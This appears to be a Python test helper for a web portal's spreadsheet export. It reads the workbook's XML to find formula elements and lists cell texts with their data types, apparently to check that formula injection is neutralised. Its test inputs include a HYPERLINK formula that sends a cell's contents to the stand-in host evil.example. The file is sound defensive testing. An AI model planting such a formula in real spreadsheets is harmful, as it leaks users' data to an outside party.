"""Reading back a workbook the portal wrote, as the formula tests need it."""

import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl

# Text a person might type, on purpose or by pasting, that a spreadsheet would take for a formula:
# each lead the issue names (=, +, -, @, tab, carriage return).
FORMULA_LIKE_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click me")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def formulas_in(workbook: Path | bytes) -> list[str]:
    """Every `<f>` element of every sheet, as "member: formula"; read from the XML, as Excel would read it."""
    source = io.BytesIO(workbook) if isinstance(workbook, bytes) else workbook
    found = []
    with zipfile.ZipFile(source) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets, "a workbook without sheets proves nothing"
        for name in sheets:
            for element in ElementTree.fromstring(archive.read(name)).iter():
                if element.tag.rsplit("}", 1)[-1] == "f":
                    found.append(f"{name}: {element.text}")
    return found


def text_cells(workbook: Path | bytes) -> dict[str, list[str]]:
    """Each text found in the workbook's cells → the data types of the cells that hold it."""
    source = io.BytesIO(workbook) if isinstance(workbook, bytes) else workbook
    book = openpyxl.load_workbook(source)
    found: dict[str, list[str]] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell.data_type)
    return found
